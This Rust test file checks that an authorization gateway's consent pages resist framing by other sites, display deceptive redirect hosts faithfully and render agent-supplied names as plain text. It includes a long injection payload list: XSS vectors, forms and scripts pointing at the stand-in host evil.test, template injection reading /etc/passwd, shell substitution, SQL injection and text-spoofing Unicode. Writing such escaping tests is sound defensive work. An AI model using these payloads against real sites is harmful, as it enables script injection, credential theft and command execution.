//! O8, O9: the consent pages in a real Chromium, against another site and against what agents say of themselves.

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::Command;

use serde_json::{Value, json};
use tests::{Agent, Browser, Gateway, Reply, Store, free_port};

use super::acting::Acting;
use crate::clients::{run, script};

fn start() -> (Acting, Gateway) {
    let acting = Acting::start();
    let gateway = Gateway::start_with(Store::Embedded, free_port(), &acting.provider("acting", ""));
    (acting, gateway)
}

/// Begins a consent that ends on the gateway's own page: the link and the session.
fn begin(gateway: &Gateway, agent: &Agent) -> (String, String) {
    let mut request = agent.authorization(gateway, &["read"]);
    request["provider_id"] = json!("acting");
    request.as_object_mut().expect("an object").remove("user_redirect_uri");
    let begun = agent.post(gateway, "/ath/authorize", &request);
    assert_eq!(begun.status, 200, "{}", begun.body_text());
    (begun.text("/authorization_url"), begun.text("/ath_session_id"))
}

fn register(gateway: &Gateway, agent: &mut Agent, developer: &str, purpose: &str) {
    let mut registration = agent.registration(gateway);
    registration["developer"]["name"] = json!(developer);
    registration["purpose"] = json!(purpose);
    registration["requested_providers"] = json!([{"provider_id": "acting", "scopes": ["read"]}]);
    let answer = agent.post(gateway, "/ath/agents/register", &registration);
    assert_eq!(answer.status, 201, "{}", answer.body_text());
    agent.client = Some((answer.text("/client_id"), answer.text("/client_secret")));
}

#[test]
fn o08_another_site_frames_nothing_and_submits_nothing() {
    let (_acting, gateway) = start();
    let mut agent = Agent::new("Ticket Helper");
    register(&gateway, &mut agent, "Example Works", "Looks after tickets");
    let (link, session) = begin(&gateway, &agent);
    let mut command = Command::new("node");
    command.arg(script("framing.mjs")).arg(&link);
    let said = run(command);
    let end: Value = serde_json::from_str(said.lines().last().expect("a line")).expect("JSON");
    assert!(end["tried"].as_u64().expect("a number") >= 56, "{end}");
    let token = agent.exchange(&gateway, &session, end["code"].as_str().expect("a code"));
    assert_eq!(token.status, 200, "{}", token.body_text());
}

#[test]
fn o09_hosts_are_shown_as_they_are_on_the_wire() {
    let (_acting, gateway) = start();
    let mut agent = Agent::new("Ticket Helper");
    let hosts = ["xn--80ak6aa92e.example", "accounts.acme.example.evil.test", "1.2.3.4", "[2606:4700::1111]"];
    let mut registration = agent.registration(&gateway);
    registration["requested_providers"] = json!([{"provider_id": "acting", "scopes": ["read"]}]);
    registration["redirect_uris"] =
        json!(hosts.map(|host| format!("https://{host}/acme.example/callback?x=acme.example")));
    let answer = agent.post(&gateway, "/ath/agents/register", &registration);
    assert_eq!(answer.status, 201, "{}", answer.body_text());
    agent.client = Some((answer.text("/client_id"), answer.text("/client_secret")));
    for host in hosts {
        let mut request = agent.authorization(&gateway, &["read"]);
        request["provider_id"] = json!("acting");
        request["user_redirect_uri"] = json!(format!("https://{host}/acme.example/callback?x=acme.example"));
        let begun = agent.post(&gateway, "/ath/authorize", &request);
        let page = Browser::new().open(&begun.text("/authorization_url"));
        let shown = page.answer.body_text();
        assert!(shown.contains(&format!("you are sent to <strong class=\"host\">{host}</strong>")), "{shown}");
        assert!(!shown.contains("/acme.example"), "the path poses as a host: {shown}");
        assert!(shown.contains(&format!("vouched for by <strong class=\"host\">{}</strong>", agent.id)), "{shown}");
    }
}

#[test]
fn o09_what_an_agent_says_of_itself_is_text() {
    let (acting, gateway) = start();
    let texts = hostile();
    assert_eq!(texts.iter().collect::<BTreeSet<_>>().len(), texts.len(), "each text once");
    assert!(texts.len() >= 200, "{}", texts.len());
    let agent = |name: &str, developer: &str, purpose: &str, label: &str| {
        let mut agent = Agent::new("");
        let mut document = agent.document();
        document["name"] = json!(name);
        document["developer"]["name"] = json!(developer);
        agent.publish(Reply::json(&document));
        register(&gateway, &mut agent, developer, purpose);
        let links = [begin(&gateway, &agent).0, begin(&gateway, &agent).0];
        acting.conduct(|conduct| conduct.labels.push_back(label.to_owned()));
        json!({"links": links, "texts": {"name": name, "developer": developer, "purpose": purpose, "label": label}})
    };
    let plain = agent("Ticket Helper", "Example Works", "Looks after tickets", "alice@acme.test");
    let nameless = agent("Ticket Helper", "Example Works", "\u{200b}", "\u{200b}");
    let quarter = texts.len() / 4;
    let text = |position: usize| texts[position % texts.len()].as_str();
    let cases: Vec<Value> = (0..texts.len())
        .map(|number| {
            agent(text(number), text(number + quarter), text(number + 2 * quarter), text(number + 3 * quarter))
        })
        .collect();
    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let file = folder.join("hostile.json");
    std::fs::write(&file, json!({"plain": plain, "nameless": nameless, "cases": cases}).to_string()).expect("written");
    let mut command = Command::new("node");
    command.arg(script("hostile.mjs")).arg(&file);
    let said = run(command);
    let end: Value = serde_json::from_str(said.lines().last().expect("a line")).expect("JSON");
    assert_eq!(end["cases"], json!(texts.len()));
    assert!(end["pages"].as_u64().expect("a number") >= 500, "{end}");
}

/// Markup and its like; `RUN` stands for a script that leaves a trace.
const MARKUP: [&str; 96] = [
    "<script>RUN</script>",
    "</title><script>RUN</script>",
    "</strong></h1><script>RUN</script>",
    "</code></li></ul><form action=https://evil.test><button>Allow</button></form>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/src=//evil.test/x.js></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script\n>RUN</script>",
    "<script\u{0}>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror='RUN'//",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data=data:text/html,<script>RUN</script>>",
    "<embed src=javascript:RUN>",
    "<a href=javascript:RUN>click</a>",
    "<a href=\"java&#9;script:RUN\">click</a>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content=0;url=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import'https://evil.test/x.css';</style>",
    "<form action=https://evil.test/><input name=password></form>",
    "</form><form action=https://evil.test/>",
    "<button name=decision value=allow>Deny</button>",
    "<input type=hidden name=decision value=allow>",
    "<input type=hidden name=session_id value=x>",
    "<template><script>RUN</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<plaintext>",
    "<xmp><script>RUN</script></xmp>",
    "<textarea><script>RUN</script>",
    "<title><script>RUN</script>",
    "<!--",
    "--><script>RUN</script><!--",
    "<!--><script>RUN</script>-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<?xml version=\"1.0\"?><script>RUN</script>",
    "<!DOCTYPE html><script>RUN</script>",
    "\"><script>RUN</script>",
    "'><script>RUN</script>",
    "\" onmouseover=\"RUN",
    "' onmouseover='RUN",
    "\" autofocus onfocus=\"RUN\" x=\"",
    "` onmouseover=`RUN",
    "\"/><img src=x onerror=RUN>",
    "\\\"><script>RUN</script>",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;RUN",
    "&ltscript&gtRUN",
    "&NewLine;&Tab;&nbsp;&shy;&zwnj;&rlm;",
    "&#8238;gnp.exe&#x202e;",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}RUN",
    "\u{212a}\u{17f}cript",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include \"/etc/passwd\" %}",
    "{{ view.csrf }}",
    "{{constructor.constructor('RUN')()}}",
    "[[${7*7}]]",
    "@{7*7}",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
    "expression(RUN)",
    "url(https://evil.test/)",
    "');RUN;//",
    "\r\nSet-Cookie: x=y\r\n\r\n<script>RUN</script>",
    "$(id)`id`;id|id",
    "' OR 1=1 --",
    "%s%n%x",
    "https://accounts.example/ (verified)",
];

/// Characters that hide, or turn the text around, or come close to it.
const CHARACTERS: [u32; 92] = [
    0x00, 0x01, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9f, 0xa0, 0xad,
    0x034f, 0x0600, 0x0605, 0x061c, 0x06dd, 0x070f, 0x0890, 0x0891, 0x08e2, 0x115f, 0x1160, 0x1680, 0x17b4, 0x17b5,
    0x180b, 0x180e, 0x180f, 0x2000, 0x200a, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b,
    0x202c, 0x202d, 0x202e, 0x202f, 0x205f, 0x2060, 0x2061, 0x2064, 0x2065, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a,
    0x206f, 0x2800, 0x3000, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff0, 0xfff8, 0xfff9, 0xfffb, 0xfffc, 0xfffd,
    0x1_10bd, 0x1_10cd, 0x1_3430, 0x1_343f, 0x1_bca0, 0x1_bca3, 0x1_d173, 0x1_d17a, 0xe_0000, 0xe_0001, 0xe_0020,
    0xe_0041, 0xe_007f, 0xe_0100, 0xe_01ef, 0xe_0fff, 0xf_fffd,
];

fn hostile() -> Vec<String> {
    let markup = MARKUP.iter().map(|text| text.replace("RUN", "window.ran=1,alert(1)"));
    let characters = CHARACTERS.iter().map(|code| char::from_u32(*code).expect("a character"));
    let around = characters.map(|hidden| format!("Safe{hidden}<b>{hidden}{hidden}tob{hidden}"));
    let alone = [0x200b, 0x2800, 0x3164, 0x202e, 0xad, 0x20].map(|code| {
        let hidden = char::from_u32(code).expect("a character");
        hidden.to_string().repeat(40)
    });
    let long = [
        "A",
        "<b>",
        "\u{202e}x",
        "W ",
        "\u{fdfd}",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}",
        "\u{1f468}\u{200d}\u{1f469}",
    ]
    .map(|piece| piece.repeat(8000 / piece.len()));
    let turned = [
        "\u{202e}moc.elpmaxe\u{202c}",
        "\u{2067}\u{2066}Acme Helpdesk\u{2069}\u{2069}",
        "\u{5d0}\u{5d1}\u{5d2} \u{627}\u{628}\u{62a}",
        "\u{430}cme H\u{435}lpdesk",
        "Acme Helpdesk\n\n\nAllow",
    ];
    let turned = turned.map(str::to_owned);
    markup.chain(around).chain(alone).chain(long).chain(turned).collect()
}
